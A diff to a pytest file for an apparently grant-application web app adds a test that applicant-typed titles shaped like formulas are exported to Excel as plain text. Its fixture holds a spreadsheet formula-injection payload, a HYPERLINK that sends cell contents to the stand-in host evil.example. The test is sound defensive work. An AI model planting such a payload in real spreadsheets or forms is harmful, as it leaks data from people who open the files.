@@ -2,6 +2,7 @@
 acceptance batches, the expert's tasks and the applicant's own applications."""
 
 import io
+import zipfile
 from decimal import Decimal
 
 import pytest
@@ -102,3 +103,15 @@ def test_strangers_get_no_copy(programme, applicant, county):
     assert signed_in(applicant).get("/desk/budget/excel/").status_code == 403
     assert signed_in(county).get("/desk/notices/excel/").status_code == 403
     assert signed_in(county).get("/my/excel/").status_code == 403
+
+
+def test_text_that_looks_like_a_formula_stays_text(programme, applicant):
+    """Titles and names are typed by applicants: Excel must show them, never run them."""
+    trap = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    ApplicationFactory(programme=programme, organisation=applicant.organisation, title=trap)
+    response = signed_in(applicant).get("/my/excel/")
+    book = load_workbook(io.BytesIO(response.content))
+    [cell] = [c for row in book["我的申报"].iter_rows() for c in row if c.value == trap]
+    assert cell.data_type == "s"
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        assert all(b"<f>" not in archive.read(name) for name in archive.namelist())
